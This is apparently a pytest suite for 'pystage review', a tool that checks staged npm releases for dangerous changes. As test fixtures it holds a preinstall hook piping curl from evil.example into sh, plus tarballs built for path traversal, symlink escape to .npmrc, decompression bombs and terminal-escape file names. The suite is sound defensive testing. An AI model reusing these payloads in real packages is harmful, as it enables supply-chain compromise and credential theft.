"""`pystage review` and `view --files` end to end: versions staged on the embedded
registry (or, for archives no registry would accept, served by the scripted stage
server), reviewed by `python -m pystage` in a subprocess; the --json schema, the exit
codes, hostile tarballs handled with a finding or a clean error and no file written."""

from __future__ import annotations

import json
import os
import uuid

import pytest
from helpers import write_npmrc
from reviewkit import gzip_stream_of_zeros, tarball

SEVERITIES = {"info", "low", "medium", "high"}


@pytest.fixture
def reg(tmp_path, registry_server, run_pystage):
    user = registry_server.add_user("alice")
    npmrc = registry_server.write_npmrc(tmp_path / "npmrc", user)
    work = tmp_path / "work"
    work.mkdir()

    def ours(*args, **kw):
        return run_pystage(
            *args, "--registry", registry_server.url, "--userconfig", npmrc, cwd=work, **kw
        )

    return registry_server, user, ours, work


def check_schema(report: dict) -> None:
    assert set(report) >= {"id", "package", "version", "baseline", "files", "manifest", "findings"}
    assert set(report["files"]) == {"added", "removed", "changed"}
    for group in report["files"].values():
        for entry in group:
            assert isinstance(entry["path"], str) and isinstance(entry["size"], int)
    for field, change in report["manifest"].items():
        assert isinstance(field, str) and change["change"] in ("added", "removed", "changed")
    for finding in report["findings"]:
        assert set(finding) - {"line"} == {"rule", "severity", "path", "message"}
        assert finding["severity"] in SEVERITIES
        assert isinstance(finding["message"], str) and finding["message"]


def test_an_install_script_attack_fails_the_review_with_exit_8(reg):
    server, user, ours, work = reg
    server.publish(user, "widget", "1.0.0", files={"index.js": "module.exports = 1;\n"})
    stage_id = server.stage(
        user,
        "widget",
        "1.0.1",
        files={"index.js": "module.exports = 1;\n", "setup.js": "// fetches a binary\n"},
        manifest={"scripts": {"preinstall": "curl -s https://evil.example/x | sh"}},
    )
    result = ours("review", stage_id, "--json")
    assert result.returncode == 8, result.stderr
    report = json.loads(result.stdout)
    check_schema(report)
    assert (report["id"], report["package"], report["version"], report["baseline"]) == (
        stage_id,
        "widget",
        "1.0.1",
        "1.0.0",
    )
    assert [f["path"] for f in report["files"]["added"]] == ["setup.js"]
    assert report["manifest"]["scripts.preinstall"]["change"] == "added"
    high = {(f["rule"], f["path"]) for f in report["findings"] if f["severity"] == "high"}
    assert ("install-script", "scripts.preinstall") in high
    assert ("dangerous-script", "scripts.preinstall") in high
    assert json.loads(result.stderr)["error"]["code"] == "EREVIEW"

    human = ours("review", "widget@1.0.1")
    assert human.returncode == 8
    assert "Review of widget@1.0.1 against 1.0.0" in human.stdout
    assert "+ setup.js" in human.stdout
    assert "pystage error EREVIEW: 2 finding(s) at or above high" in human.stderr
    assert "HIGH" in human.stdout and "scripts.preinstall" in human.stdout
    assert ours("review", stage_id, "--fail-on", "never").returncode == 0
    assert list(work.iterdir()) == []  # nothing written


def test_fail_on_thresholds_and_a_benign_release(reg):
    server, user, ours, _ = reg
    server.publish(user, "lib", "2.0.0", files={"index.js": "exports.a = 1;\n"})
    stage_id = server.stage(
        user,
        "lib",
        "2.1.0",
        files={"index.js": "exports.a = 1;\nexports.b = 2;\n"},
        manifest={"dependencies": {"left-pad": "^1.3.0"}},  # medium: a new dependency
    )
    assert ours("review", stage_id).returncode == 0  # default --fail-on high
    assert ours("review", stage_id, "--fail-on", "high").returncode == 0
    medium = ours("review", stage_id, "--fail-on", "medium", "--json")
    assert medium.returncode == 8
    report = json.loads(medium.stdout)
    assert {(f["rule"], f["severity"]) for f in report["findings"]} == {
        ("dependency-added", "medium")
    }
    changed = {c["path"]: c for c in report["files"]["changed"]}
    assert "+exports.b = 2;" in changed["index.js"]["diff"]
    assert ours("review", stage_id, "--fail-on", "info").returncode == 8


def test_against_picks_another_baseline_and_an_unknown_one_is_e404(reg):
    server, user, ours, _ = reg
    server.publish(user, "multi", "1.0.0", files={"a.js": "1\n"})
    server.publish(user, "multi", "1.1.0", files={"a.js": "1\n", "b.js": "2\n"})
    stage_id = server.stage(user, "multi", "1.2.0", files={"a.js": "1\n", "b.js": "2\n"})
    default = json.loads(ours("review", stage_id, "--json").stdout)
    assert default["baseline"] == "1.1.0" and default["files"]["added"] == []
    older = json.loads(ours("review", stage_id, "--json", "--against", "1.0.0").stdout)
    assert older["baseline"] == "1.0.0"
    assert [f["path"] for f in older["files"]["added"]] == ["b.js"]
    missing = ours("review", stage_id, "--against", "0.9.0")
    assert missing.returncode == 4
    assert "pystage error E404: --against 0.9.0" in missing.stderr


def test_usage_errors_before_any_request(reg):
    _, _, ours, _ = reg
    bad = ours("review", "not-an-id")
    assert bad.returncode == 2 and "EUSAGE" in bad.stderr
    level = ours("review", str(uuid.uuid4()), "--fail-on", "critical")
    assert level.returncode == 2 and "EUSAGE" in level.stderr
    gone = ours("review", str(uuid.uuid4()))
    assert gone.returncode == 4 and "Traceback" not in gone.stderr


def test_view_files_lists_every_entry_with_size_mode_and_sha512(reg):
    import base64
    import hashlib

    server, user, ours, work = reg
    server.publish(user, "shown", "1.0.0")
    body = "console.log('hi');\n"
    stage_id = server.stage(
        user, "shown", "1.0.1", files={"index.js": body}, manifest={"scripts": {"install": "x"}}
    )
    result = ours("view", stage_id, "--files", "--json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["id"] == stage_id
    files = {f["path"]: f for f in data["files"]}
    sha = "sha512-" + base64.b64encode(hashlib.sha512(body.encode()).digest()).decode()
    assert files["index.js"] == {
        "path": "index.js",
        "type": "file",
        "size": len(body),
        "mode": "0644",
        "sha512": sha,
    }
    human = ours("view", stage_id, "--files")
    assert f"0644 {len(body):>10} {sha}" in human.stdout and "index.js" in human.stdout
    plain = ours("view", stage_id)
    assert 'install scripts: {"install": "x"}' in plain.stderr
    assert "install scripts" not in plain.stdout  # stdout stays npm's
    assert list(work.iterdir()) == []


# -- hostile tarballs, served as-is by the scripted stage server -----------------------


@pytest.fixture
def hostile(tmp_path, stage_server, run_pystage):
    npmrc = write_npmrc(tmp_path / "npmrc", stage_server.url)
    work = tmp_path / "work"
    work.mkdir()

    def serve(staged: bytes, baseline: bytes | None = None, name="victim"):
        stage_id = str(uuid.uuid4())
        item = {
            "id": stage_id,
            "packageName": name,
            "version": "1.0.1",
            "tag": "latest",
            "actor": "ci-bot",
            "actorType": "token",
        }
        stage_server.state.items = [item]
        stage_server.state.tarballs = {stage_id: staged}
        if baseline is not None:
            url = f"{stage_server.url}{name}/-/{name}-1.0.0.tgz"
            stage_server.state.packuments = {
                name: {
                    "name": name,
                    "dist-tags": {"latest": "1.0.0"},
                    "versions": {
                        "1.0.0": {
                            "name": name,
                            "version": "1.0.0",
                            "_npmUser": {"name": "maintainer"},
                            "dist": {"tarball": url, "attestations": {"url": "x"}},
                        }
                    },
                },
                f"{name}/-/{name}-1.0.0.tgz": baseline,
            }
        return stage_id

    def ours(*args):
        return run_pystage(
            *args, "--registry", stage_server.url, "--userconfig", npmrc, cwd=work, timeout=300
        )

    return serve, ours, work


BASE = tarball({"index.js": "module.exports = 1;\n"}, name="victim", version="1.0.0")


def _hostile(kind: str) -> bytes:
    import tarfile

    if kind == "traversal":
        return tarball({"@raw:package/../../../../tmp/pwned": "x"}, name="victim", version="1.0.1")
    if kind == "absolute":
        return tarball({"@raw:/tmp/pwned-abs": "x"}, name="victim", version="1.0.1")
    if kind == "symlink":
        return tarball(
            {"index.js": {"type": tarfile.SYMTYPE, "link": "../../../../home/user/.npmrc"}},
            name="victim",
            version="1.0.1",
        )
    if kind == "bomb":
        return b"".join(gzip_stream_of_zeros(256 * 1024**2))  # 256 MiB of zeros, ~250 kB
    if kind == "corrupt":
        good = tarball({"index.js": "x" * 20000}, name="victim", version="1.0.1")
        return good[:30] + bytes(b ^ 0xA5 for b in good[30:200]) + good[200:]
    if kind == "truncated":
        good = tarball({"index.js": os.urandom(40000).hex()}, name="victim", version="1.0.1")
        return good[: len(good) // 2]
    raise AssertionError(kind)


@pytest.mark.parametrize(
    "kind, rule",
    [
        ("traversal", "path-traversal"),
        ("absolute", "absolute-path"),
        ("symlink", "link-outside"),
        ("bomb", "archive-bomb"),
        ("corrupt", "corrupt-archive"),
        ("truncated", "corrupt-archive"),
    ],
)
def test_hostile_tarballs_are_high_findings_and_nothing_is_written(hostile, kind, rule):
    serve, ours, work = hostile
    stage_id = serve(_hostile(kind), BASE)
    before = set(os.listdir("/tmp"))
    result = ours("review", stage_id, "--json")
    assert result.returncode == 8, result.stderr
    assert "Traceback" not in result.stderr
    report = json.loads(result.stdout)
    check_schema(report)
    assert any(f["rule"] == rule and f["severity"] == "high" for f in report["findings"]), report[
        "findings"
    ]
    assert list(work.iterdir()) == []
    assert not {n for n in set(os.listdir("/tmp")) - before if "pwned" in n}


def test_who_rules_publisher_changed_and_provenance_gone(hostile):
    serve, ours, _ = hostile
    staged = tarball({"index.js": "module.exports = 1;\n"}, name="victim", version="1.0.1")
    report = json.loads(ours("review", serve(staged, BASE), "--json").stdout)
    rules = {f["rule"]: f for f in report["findings"]}
    assert rules["publisher-changed"]["severity"] == "medium"
    assert "ci-bot" in rules["publisher-changed"]["message"]
    assert rules["provenance-missing"]["severity"] == "medium"


def test_a_first_version_counts_everything_as_added(hostile):
    serve, ours, _ = hostile
    staged = tarball({"index.js": "module.exports = 1;\n"}, name="victim", version="1.0.1")
    result = ours("review", serve(staged), "--json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["baseline"] is None
    assert {f["path"] for f in report["files"]["added"]} == {"package.json", "index.js"}


def test_terminal_escapes_in_a_tarball_are_shown_inert(hostile):
    serve, ours, _ = hostile
    evil = "evil\x1b[2J\x1b]0;owned\x07.js"
    staged = tarball({evil: "x\n"}, name="victim", version="1.0.1")
    result = ours("review", serve(staged, BASE), "--fail-on", "never")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "evil\\x1b[2J" in result.stdout


def test_a_baseline_that_is_gone_is_a_clean_error(hostile, stage_server):
    serve, ours, work = hostile
    stage_id = serve(BASE, BASE)
    del stage_server.state.packuments["victim/-/victim-1.0.0.tgz"]
    result = ours("review", stage_id)
    assert result.returncode == 4
    assert result.stderr.startswith("pystage error E404")
    assert list(work.iterdir()) == []
